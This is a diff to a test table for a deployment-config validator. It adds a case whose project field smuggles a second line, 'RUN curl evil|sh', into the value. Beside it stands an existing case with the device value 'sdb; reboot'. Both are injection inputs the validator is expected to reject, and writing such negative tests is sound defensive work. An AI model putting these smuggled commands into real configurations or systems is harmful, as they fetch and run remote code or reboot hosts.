@@ -92,6 +92,9 @@ CASES = {
     "deploy-bad-change-id": Case("deploy", edit(DEPLOY_OK, "global_params.patches",
                                                 {"overcloud": [{"change-id": "12345", "project": "openstack/nova"}]}),
                                  ("global_params.patches.overcloud.0.change-id: '12345'", "40 lowercase hex")),
+    "deploy-project-injects-a-line": Case("deploy", edit(DEPLOY_OK, "global_params.patches", {"overcloud": [
+        {"change-id": CID, "project": "openstack/nova\nRUN curl evil|sh"}]}),
+        ("global_params.patches.overcloud.0.project: 'openstack/nova\\nRUN curl evil|sh'", "pattern")),
     "deploy-bad-ceph-device": Case("deploy", edit(DEPLOY_OK, "deploy_options.ceph_device", "sdb; reboot"),
                                    ("deploy_options.ceph_device: 'sdb; reboot'", "pattern")),
     # -- network settings ---------------------------------------------------------------------
